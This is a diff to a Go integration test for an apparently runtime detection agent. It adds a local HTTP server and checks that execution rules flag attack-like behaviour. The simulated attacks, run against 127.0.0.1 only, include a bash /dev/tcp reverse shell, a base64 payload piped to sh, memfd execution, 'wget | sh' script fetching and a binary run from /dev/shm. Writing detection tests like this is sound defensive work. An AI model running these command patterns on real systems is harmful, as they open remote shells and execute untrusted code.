@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -101,22 +102,43 @@ func listenReverseShell(t *testing.T, commands string) *reverseShellServer {
 	return s
 }
 
+// scriptServer serves one script over HTTP on 127.0.0.1.
+type scriptServer struct{ port int }
+
+// serveScript serves body at every path of a port of 127.0.0.1 that no
+// pool rule watches, until the test ends.
+func serveScript(t *testing.T, body string) scriptServer {
+	t.Helper()
+	ln := listenUnlisted(t)
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		io.WriteString(w, body)
+	})}
+	go srv.Serve(ln)
+	t.Cleanup(func() { srv.Close() })
+	return scriptServer{port: ln.Addr().(*net.TCPAddr).Port}
+}
+
 // TestRulesExecutionOnHost runs the agent with rules/execution.yaml and,
 // on the host: (a) a bash reverse shell to a listener of the test
 // ("exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"), which runs the
 // listener's echo and exits; (b) a base64 payload decoded into sh; (c)
-// python3 running /bin/true from a memfd; and, as negatives, (d) a bash
-// that opens a /dev/tcp connection on descriptor 3 only and (e) a base64
-// decode into a file. The reverse shell raises the dup alert once (at the
-// copy onto descriptor 0 that makes both standard streams sockets) and the
-// socket-shell alert once, for the new bash -i and not for the scripts
-// its start-up files run, the pipeline its base64 alert, the memfd program its memfd
-// alert, each naming the process; the negatives raise none of the six
-// rules. A run in which the agent dropped events is run again.
+// python3 running /bin/true from a memfd; (d) "busybox wget -qO- URL | sh"
+// against a web server of the test; (e) a copy of true run from /dev/shm;
+// and, as negatives, (f) a bash that opens a /dev/tcp connection on
+// descriptor 3 only and (g) a base64 decode into a file. The reverse shell
+// raises the dup alert once (at the copy onto descriptor 0 that makes both
+// standard streams sockets) and the socket-shell alert once, for the new
+// bash -i and not for the scripts its start-up files run; the pipeline its
+// base64 alert, the memfd program its memfd alert, the fetch its
+// remote-script alert and the /dev/shm program its scratch-directory
+// alert, each naming the process (the last two raise nothing else); the
+// negatives raise none of the six rules. A run in which the agent dropped
+// events is run again.
 func TestRulesExecutionOnHost(t *testing.T) {
 	testenv.Root(t)
 	python := testenv.Tool(t, "python3")
 	bash := testenv.Tool(t, "bash")
+	busybox := testenv.Tool(t, "busybox")
 	rules := filepath.Join(testenv.ModuleRoot(t), "rules", "execution.yaml")
 	if _, err := os.Stat(rules); err != nil {
 		t.Fatalf("the execution rules: %v", err)
@@ -134,6 +156,7 @@ func TestRulesExecutionOnHost(t *testing.T) {
 			}
 		}()
 
+		web := serveScript(t, "echo "+marker+"-web\n")
 		live := startPeregrine(t, "watching", "run", "--ring-size", "67108864", "--rules", rules, "-o", "json", "--no-docker")
 
 		// (a) the reverse shell; its output comes back on the socket.
@@ -170,7 +193,22 @@ os.execv("/proc/self/fd/%d" % fd, ["payload", sys.argv[1]])`
 		}
 		memPid := strconv.Itoa(mem.Process.Pid)
 
-		// (d) a connection on descriptor 3 only, (e) a decode into a file.
+		// (d) a script fetched with busybox wget and piped into sh; (e) a
+		// copy of true run from /dev/shm.
+		fetch := exec.Command("/bin/sh", "-c", fmt.Sprintf("%s wget -qO- http://127.0.0.1:%d/install.sh | sh", busybox, web.port))
+		if out, err := fetch.CombinedOutput(); err != nil || !strings.Contains(string(out), marker+"-web") {
+			t.Fatalf("remote script: %v: %s", err, out)
+		}
+		fetchPid := strconv.Itoa(fetch.Process.Pid)
+		shmExe := "/dev/shm/" + marker
+		defer os.Remove(shmExe)
+		shm := exec.Command("/bin/sh", "-c", fmt.Sprintf("cp /bin/true %s && exec %s", shmExe, shmExe))
+		if out, err := shm.CombinedOutput(); err != nil {
+			t.Fatalf("program in /dev/shm: %v: %s", err, out)
+		}
+		shmPid := strconv.Itoa(shm.Process.Pid)
+
+		// (f) a connection on descriptor 3 only, (g) a decode into a file.
 		side := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; echo %s >&3; exec 3>&-", plain.Addr().(*net.TCPAddr).Port, marker))
 		if out, err := side.CombinedOutput(); err != nil {
 			t.Fatalf("socket on descriptor 3: %v: %s", err, out)
@@ -184,7 +222,9 @@ os.execv("/proc/self/fd/%d" % fd, ["payload", sys.argv[1]])`
 			return len(alertsOf(all, ruleReverseShellDup, "proc.pid", rsPid)) > 0 &&
 				len(alertsOf(all, ruleShellOnSocket, "proc.pid", rsPid)) > 0 &&
 				len(alertsOf(all, ruleBase64ToShell, "proc.pid", b64Pid)) > 0 &&
-				len(alertsOf(all, ruleMemfdExec, "proc.pid", memPid)) > 0
+				len(alertsOf(all, ruleMemfdExec, "proc.pid", memPid)) > 0 &&
+				len(alertsOf(all, ruleRemoteScriptShell, "proc.pid", fetchPid)) > 0 &&
+				len(alertsOf(all, ruleScratchDirExec, "proc.pid", shmPid)) > 0
 		})
 
 		conn := fmt.Sprintf("->127.0.0.1:%d", shell.port)
@@ -201,6 +241,14 @@ os.execv("/proc/self/fd/%d" % fd, ["payload", sys.argv[1]])`
 			{"memfd", ruleMemfdExec, memPid, 1, "T1620", map[string]string{
 				"evt.type": "execve", "proc.exepath": "memfd:payload", "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
 			}},
+			{"remote script", ruleRemoteScriptShell, fetchPid, 1, "T1105", map[string]string{
+				"proc.name": "sh", "proc.cmdline": fmt.Sprintf("sh -c %s wget -qO- http://127.0.0.1:%d/install.sh | sh", busybox, web.port),
+			}},
+			{"remote script, the rest", "", fetchPid, 1, "", nil},
+			{"program in /dev/shm", ruleScratchDirExec, shmPid, 1, "T1059", map[string]string{
+				"proc.name": marker[:15], "proc.exepath": shmExe,
+			}},
+			{"program in /dev/shm, the rest", "", shmPid, 1, "", nil},
 			{"socket on descriptor 3", "", strconv.Itoa(side.Process.Pid), 0, "", nil},
 			{"base64 to a file", "", strconv.Itoa(decode.Process.Pid), 0, "", nil},
 		})
